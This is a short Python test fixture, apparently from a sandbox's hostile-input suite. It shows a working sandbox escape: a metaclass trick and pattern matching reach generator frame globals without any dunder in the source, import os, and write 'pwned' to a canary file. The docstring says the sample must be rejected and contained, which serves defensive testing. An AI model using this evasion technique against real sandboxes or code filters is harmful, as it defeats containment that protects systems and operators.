"""Hostile: metaclass_match_frames. ``type(type)`` is the metaclass itself: called with a run-time dict it
builds a metaclass whose instance check says yes to everything and a class whose
match arguments names frame internals — no dunder is written in the source. A positional class
pattern then reads gi_frame, f_back and f_globals. Must be rejected and contained."""

UNDER = "_" * 2


def always(cls, value):
    return True


def run(inputs):
    maker = type(type)
    meta = maker("Meta", (maker,), {UNDER + "instancecheck" + UNDER: always})
    gen_like = meta("GenLike", (), {UNDER + "match_args" + UNDER: ("gi" + "_frame",)})
    frame_like = meta("FrameLike", (), {UNDER + "match_args" + UNDER: ("f" + "_back", "f" + "_globals")})

    def probe():
        yield 1

    match probe():
        case gen_like(frame):
            pass
    match frame:
        case frame_like(back, space):
            table = space[UNDER + "builtins" + UNDER]
    table = table if isinstance(table, dict) else {}
    osmod = table[UNDER + "import" + UNDER]("os")
    fd = osmod.open(inputs["params"]["canary"], 0o101, 0o644)
    osmod.write(fd, b"pwned")
    return {"result": "escaped"}
